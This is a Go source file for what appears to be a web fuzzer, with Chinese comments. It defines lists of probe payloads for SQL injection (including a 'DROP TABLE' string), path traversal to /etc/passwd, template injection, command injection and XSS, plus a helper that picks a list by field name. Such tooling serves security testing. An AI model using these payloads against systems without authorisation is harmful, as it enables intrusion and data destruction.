package fuzzer

import "strings"

// 漏洞类别载荷池
var (
	// SQL 注入载荷
	sqliPayloads = []string{
		`' OR '1'='1`,
		`' OR 1=1--`,
		`"; DROP TABLE users;--`,
		`' UNION SELECT NULL--`,
		`1' AND SLEEP(0)--`,
	}

	// 路径穿越载荷
	pathTraversalPayloads = []string{
		`../../../etc/passwd`,
		`..%2f..%2f..%2fetc%2fpasswd`,
		`....//....//etc/passwd`,
		`..\..\..\windows\win.ini`,
	}

	// 模板注入载荷
	sstiPayloads = []string{
		`{{7*7}}`,
		`${7*7}`,
		`#{7*7}`,
		`<%= 7*7 %>`,
	}

	// 命令注入载荷
	cmdiPayloads = []string{
		`; id`,
		`| id`,
		"`id`",
		`$(id)`,
	}

	// XSS 探针载荷
	xssPayloads = []string{
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`javascript:alert(1)`,
	}

	// 数值边界载荷（IDOR / 溢出）
	numericBoundaryPayloads = []string{
		"-1",
		"0",
		"99999999",
		"2147483648",
		"-2147483649",
		"9223372036854775808",
	}
)

// 通用边界值载荷
var boundaryPayloads = []string{
	"",
	" ",
	"null",
	"true",
	strings.Repeat("A", 10000),
	"\x00",
	"%00",
	"𝕊𝕙𝕒𝕕𝕠𝕨",
}

// injectionPool 全部注入类载荷的合并池
func injectionPool() []string {
	pool := make([]string, 0,
		len(sqliPayloads)+len(pathTraversalPayloads)+len(sstiPayloads)+len(cmdiPayloads)+len(xssPayloads))
	pool = append(pool, sqliPayloads...)
	pool = append(pool, pathTraversalPayloads...)
	pool = append(pool, sstiPayloads...)
	pool = append(pool, cmdiPayloads...)
	pool = append(pool, xssPayloads...)
	return pool
}

// payloadsForField 按字段名启发式选择偏向的载荷池
func payloadsForField(key string) []string {
	k := strings.ToLower(key)
	switch {
	case strings.Contains(k, "id") && !strings.Contains(k, "idempotency"):
		return numericBoundaryPayloads
	case strings.Contains(k, "path") || strings.Contains(k, "file") || strings.Contains(k, "dir"):
		return pathTraversalPayloads
	case strings.Contains(k, "cmd") || strings.Contains(k, "exec") || strings.Contains(k, "shell"):
		return cmdiPayloads
	case strings.Contains(k, "template") || strings.Contains(k, "render"):
		return sstiPayloads
	case strings.Contains(k, "name") || strings.Contains(k, "comment") || strings.Contains(k, "search") || strings.Contains(k, "q"):
		return append(append([]string{}, xssPayloads...), sqliPayloads...)
	default:
		return injectionPool()
	}
}
